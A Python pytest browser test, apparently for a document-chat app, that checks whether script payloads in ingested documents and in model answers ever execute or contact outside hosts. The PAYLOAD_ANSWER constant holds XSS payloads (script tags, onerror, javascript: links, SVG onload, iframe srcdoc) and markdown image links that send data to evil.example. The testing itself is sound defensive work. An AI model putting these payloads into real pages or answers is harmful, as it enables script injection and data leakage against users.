"""Script payloads in documents and answers never run in a real browser.

A document full of payloads (``<script>``, ``onerror``, ``javascript:`` links,
SVG ``onload``, iframes) is ingested; the fake model answers with the same
payloads plus foreign images and links. The test asks a question whose answer
and sources carry them, opens every source link the chat offers and the
viewer pages of the hostile documents, and checks: no dialog opened, the
``window.__pwned`` marker every payload sets stays undefined, and no request
left for any host but the app's own.

Run: ``python -m pytest tests/e2e/test_browser_script_payloads.py -m browser``. Needs
``/usr/bin/chromium``; skipped without it.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.support.chromium import browser_marks, launched_chromium, open_page
from tests.support.openai_server import Reply
from tests.support.paths import FIXTURES
from tests.support.served_ui import Served, ask_and_wait, behind_fake_model

HOSTILE = FIXTURES / "hostile"
QUESTION = "When must receipts for expense claims be submitted?"
PAYLOAD_ANSWER = (
    "Receipts for expense claims must be submitted within thirty days [1]. "
    "<script>window.__pwned = 11; alert(11)</script> "
    '<img src=x onerror="window.__pwned = 12; alert(12)"> '
    "[click](javascript:window.__pwned=13;alert(13)) "
    "[click2](javascript&#58;window.__pwned=14) "
    '<svg onload="window.__pwned = 15"></svg> '
    '<iframe srcdoc="<script>parent.__pwned=16</script>"></iframe> '
    "![x](http://evil.example/?q=DATA) ![a [b] c](//evil.example/?q=NESTED) "
    "[portal](http://evil.example/portal) [r]\n\n[r]: //evil.example/ref"
)

pytestmark = browser_marks


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    pytest.importorskip("playwright.sync_api")
    base = tmp_path_factory.mktemp("browser-hostile")
    docs = base / "docs"
    docs.mkdir()
    for name in ("script-payloads.md", "script-payloads.html", "ok.md"):
        shutil.copy(HOSTILE / name, docs / name)
    reply = Reply(text=PAYLOAD_ANSWER, chunk_chars=9, delay=0.01)
    with behind_fake_model(
        base / "index", docs, reply=reply, expect_clean=True, timeout=10
    ) as served:
        yield served


@dataclass
class Watched:
    page: Any
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)


@pytest.fixture
def watched(served: Served) -> Iterator[Watched]:
    with launched_chromium() as browser:
        context = browser.new_context()
        result = Watched(open_page(context))

        def on_dialog(dialog: Any) -> None:
            result.dialogs.append(dialog.message)
            dialog.dismiss()

        # Context-wide, so requests from iframes and popups count too.
        context.on("request", lambda request: result.requests.append(request.url))
        result.page.on("dialog", on_dialog)
        yield result


def _pwned(page: Any) -> object:
    return page.evaluate("() => window.__pwned")


def _foreign(requests: list[str], own_url: str) -> list[str]:
    own = urlsplit(own_url).netloc
    return [
        url
        for url in requests
        if urlsplit(url).scheme not in ("data", "blob", "about") and urlsplit(url).netloc != own
    ]


def test_payloads_in_answer_sources_and_viewer_never_run(served: Served, watched: Watched) -> None:
    page = watched.page
    page.goto(served.url + "/", wait_until="load")
    ask_and_wait(page, QUESTION)
    page.locator(".bot").first.get_by_text("thirty days", exact=False).first.wait_for()
    # A short cited answer's Sources start collapsed under a one-line summary.
    sources = page.locator(".message-wrap .thought-group .title").filter(
        has_text=re.compile(r"Sources|\d sources?: ")
    )
    sources.first.wait_for()
    if page.get_by_role("link", name="open section").count() == 0:
        sources.first.click()
    page.get_by_role("link", name="open section").first.wait_for()
    page.wait_for_timeout(500)
    chat_text = page.locator(".message-wrap").inner_text()
    assert "within thirty days" in chat_text
    assert "Receipt" in chat_text, "the hostile document was not among the sources"
    assert page.locator(".message-wrap img[src*='evil'], .message-wrap iframe").count() == 0
    hrefs = page.locator(".message-wrap a").evaluate_all("els => els.map(e => e.href)")
    assert not [h for h in hrefs if h.startswith("javascript:") or "evil.example" in h], hrefs
    assert _pwned(page) is None

    viewer_links = [h for h in hrefs if "/doc/" in h]
    assert viewer_links, "the answer offered no link into the viewer"
    own_pages = [served.url + "/doc/script-payloads.md", served.url + "/doc/script-payloads.html"]
    for link in sorted({*viewer_links, *own_pages}):
        page.goto("about:blank")
        response = page.goto(link, wait_until="load")
        assert response is not None
        assert response.status == 200, link
        page.wait_for_timeout(300)
        assert "thirty days" in page.inner_text("body")
        assert _pwned(page) is None, link
        for anchor in page.locator("a").all():
            href = anchor.get_attribute("href") or ""
            assert not href.lower().startswith("javascript:"), href

    assert watched.dialogs == []
    foreign = _foreign(watched.requests, served.url)
    assert foreign == [], f"requests left for other hosts: {foreign}"
